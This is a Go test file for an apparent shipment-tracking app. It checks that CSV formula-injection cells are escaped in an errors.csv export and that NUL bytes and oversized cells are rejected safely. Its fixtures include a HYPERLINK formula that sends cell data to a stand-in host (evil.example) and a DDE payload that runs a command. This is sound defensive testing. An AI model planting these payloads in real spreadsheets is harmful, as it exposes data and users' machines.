package app_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/shipwatch/shipwatch/internal/app/apptest"
)

// Cells that a spreadsheet would run as formulas come back in errors.csv
// behind a single quote, and the fixed file uploads as the original did.
func TestErrorsCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	_, key := env.Seller(t, "Acme")
	file := "order_id,tracking_number,carrier,service\n" +
		"=HYPERLINK(\"http://evil.example/?\"&A1),1Z999AA10123456784,Fedx,+Ground\n" +
		"@SUM(1+1),9400111206206406260787,USPS,\"-2, or so\"\n" + // accepted as it is
		"ok-1,1Z999AA10123456784,Nope,\t=cmd|' /C calc'!A0\n"
	im := waitImport(t, env, key, uploadFile(t, env, key, "f.csv", []byte(file)).ID, time.Minute)
	if im.Rejected != 2 || im.Created != 1 {
		t.Fatalf("import = %+v, want 2 rejected, 1 created", im)
	}
	status, _, body := getErrorsCSV(t, env, key, im.ID)
	if status != http.StatusOK {
		t.Fatalf("errors.csv: status %d", status)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("errors.csv is not CSV: %v\n%s", err, body)
	}
	for i, rec := range records {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("errors.csv line %d cell %d = %q starts a formula", i+1, j+1, cell)
			}
		}
	}
	if !strings.Contains(body, `'=HYPERLINK(`) || !strings.Contains(body, "'+Ground") {
		t.Errorf("errors.csv = %s, want the formulas behind a quote", body)
	}

	// Fix the carriers and upload the file as it came: the order ids and
	// services are the originals, not the quoted forms.
	fixed := strings.NewReplacer(",Fedx,", ",UPS,", ",Nope,", ",UPS,").Replace(body)
	again := waitImport(t, env, key, uploadFile(t, env, key, "fixed.csv", []byte(fixed)).ID, time.Minute)
	if again.Rejected != 0 || again.Created != 2 {
		t.Fatalf("fixed import = %+v (errors %+v), want 2 created", again, importErrors(t, env, key, again.ID))
	}
	var out struct {
		Shipments struct {
			Edges []struct {
				Node struct{ OrderID, Service string }
			}
		}
	}
	env.MustGraphQL(t, key, `{ shipments(first: 10) { edges { node { orderId service } } } }`, nil, &out)
	got := map[string]string{}
	for _, e := range out.Shipments.Edges {
		got[e.Node.OrderID] = e.Node.Service
	}
	if got[`=HYPERLINK("http://evil.example/?"&A1)`] != "+Ground" || got["ok-1"] != "=cmd|' /C calc'!A0" {
		t.Errorf("shipments = %q, want the original order ids and services", got)
	}
}

// A NUL byte in a cell rejects its row, naming line and column; the other
// rows are kept. A huge cell is not echoed whole in its row error.
func TestCSVNULAndHugeCells(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	_, key := env.Seller(t, "Acme")
	file := "order_id,tracking_number,ship_by\n" +
		"A-1,1Z999AA10123456784,\n" +
		"A-2,1Z999AA1\x000123456784,\n" +
		"A-3,1Z999AA10123456784," + strings.Repeat("9", 60000) + "\n" +
		"A-4,9400111206206406260787,\n"
	im := waitImport(t, env, key, uploadFile(t, env, key, "f.csv", []byte(file)).ID, time.Minute)
	if im.Created != 2 || im.Rejected != 2 {
		t.Fatalf("import = %+v, want 2 created and 2 rejected", im)
	}
	errs := importErrors(t, env, key, im.ID)
	if len(errs) != 2 || errs[0].Line != 3 || errs[0].Column == nil || *errs[0].Column != "tracking_number" || !strings.Contains(errs[0].Message, "NUL") {
		t.Fatalf("errors = %+v, want line 3, column tracking_number, a NUL byte", errs)
	}
	if errs[1].Line != 4 || len(errs[1].Message) > 300 || !strings.Contains(errs[1].Message, "…(60000 bytes)") {
		t.Errorf("huge cell error = %d bytes: %.120q, want at most 300 saying the length", len(errs[1].Message), errs[1].Message)
	}
}
